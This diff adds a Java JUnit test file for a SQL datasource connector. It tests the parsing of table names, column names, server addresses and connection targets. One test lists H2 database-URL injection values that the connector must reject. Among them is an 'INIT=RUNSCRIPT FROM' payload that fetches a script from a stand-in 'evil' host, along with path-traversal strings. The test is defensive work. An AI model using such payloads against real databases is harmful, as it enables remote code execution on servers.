@@ -1,0 +1,175 @@
+package org.sallyport.datasource.sql;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.vertx.core.json.JsonObject;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.sallyport.datasource.settings.Settings;
+import org.sallyport.datasource.spi.SourceCode;
+import org.sallyport.datasource.spi.SourceException;
+
+class NamesTest {
+
+    @ParameterizedTest
+    @CsvSource({
+        "orders,public,orders",
+        "s.orders,s,orders",
+        "[s].[orders],s,orders",
+        "[a.b].[c]]d],a.b,c]d",
+        "s.[x y],s,x y",
+        "[x],public,x",
+    })
+    void readsTableNames(String text, String schema, String name) {
+        TableName table = TableName.parse(text, "public").orElseThrow();
+        assertEquals(new TableName(schema, name), table);
+        assertEquals(Optional.of(table), TableName.parse(table.bracketed(), "other"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                ".",
+                "a.",
+                ".a",
+                "a.b.c",
+                "[a",
+                "[]",
+                "[a]b",
+                "a]",
+                "a[b",
+                "[a]]",
+                "[a\0]",
+                "[a].",
+                "[a]..[b]"
+            })
+    void refusesTextsThatAreNoTableNames(String text) {
+        assertEquals(Optional.empty(), TableName.parse(text, "public"));
+    }
+
+    @Test
+    void noTablePassesForOneOfAnotherSchema() {
+        assertEquals("public.orders", new TableName("public", "orders").resource());
+        assertNotEquals(new TableName("a.b", "c").resource(), new TableName("a", "b.c").resource());
+        assertEquals("[public.x].y", new TableName("public.x", "y").resource());
+        assertEquals("a.[[b]]]", new TableName("a", "[b]").resource());
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "total,total",
+        "order date,order_x0020_date",
+        "1st,_x0031_st",
+        "a_x0020_b,a_x005f_x0020_b",
+        "_id,_id",
+        "größe,größe",
+        "a\"b,a_x0022_b",
+    })
+    void columnsHaveIdentifiers(String column, String property) {
+        assertEquals(property, PropertyName.of(column));
+    }
+
+    @ParameterizedTest
+    @CsvSource({
+        "DB1.Corp,db1.corp:5432",
+        "db1:1,db1:1",
+        "[FD00:0:0::5],[fd00::5]:5432",
+        "[::1]:77,[::1]:77",
+        "10.0.0.1,10.0.0.1:5432",
+    })
+    void readsServers(String text, String canonical) {
+        assertEquals(canonical, ServerAddress.parse(text, 5432).orElseThrow().toString());
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "a b",
+                "a/b",
+                "a:0",
+                "a:65536",
+                "a:x",
+                "a:",
+                "[::1",
+                "[x]",
+                "::1",
+                "127.1",
+                "2130706433",
+                "0x7f.1",
+                "/var/run",
+                "a;b",
+                "a@b",
+                "[fe80::1%eth0]",
+                "-a",
+                "a..b",
+                "a?x=1"
+            })
+    void refusesTextsThatAreNoServers(String text) {
+        assertEquals(Optional.empty(), ServerAddress.parse(text, 5432));
+    }
+
+    private static JsonObject parameters(String engine, String database) {
+        return new JsonObject().put("engine", engine).put("server", "Host.Corp").put("database", database);
+    }
+
+    private static String target(JsonObject parameters) {
+        return new SqlConnector()
+                .target(Settings.ofJson("parameters", parameters))
+                .toString();
+    }
+
+    @Test
+    void targetsAreCanonical() {
+        assertEquals("postgresql://host.corp:5432/sales", target(parameters("postgresql", "sales")));
+        assertEquals("postgresql://host.corp:5432/a%2Fb%20%C3%BC%3B", target(parameters("postgresql", "a/b ü;")));
+        assertEquals("h2://host.corp:9092/mem:x", target(parameters("h2", "mem:x")));
+        assertEquals("h2://host.corp:9092/~/a/b", target(parameters("h2", "~/a/b")));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "x;INIT=RUNSCRIPT FROM 'http://evil'",
+                "x;TRACE_LEVEL_FILE=3",
+                "../x",
+                "a/../b",
+                "/etc/x",
+                "file:x",
+                "zip:x",
+                "mem:",
+                "x\\;y",
+                "x?y",
+                "x y",
+                "nio:x",
+                "mem:a;b",
+                "x\n",
+                "tcp://other/x"
+            })
+    void nothingIsSmuggledIntoH2sUrl(String database) {
+        SourceException refused = assertThrows(SourceException.class, () -> target(parameters("h2", database)));
+        assertEquals(SourceCode.INVALID_PARAMETERS, refused.code());
+    }
+
+    @Test
+    void allProblemsOfParametersAreTold() {
+        JsonObject wrong = new JsonObject()
+                .put("engine", "oracle")
+                .put("server", "a b")
+                .put("tls", "sometimes")
+                .put("pageSize", -1)
+                .put("url", "jdbc:x");
+        String told = assertThrows(SourceException.class, () -> target(wrong)).safeMessage();
+        for (String name : List.of("engine", "server", "database", "tls", "pageSize", "url")) {
+            assertTrue(told.contains(name + ":"), told);
+        }
+    }
+}
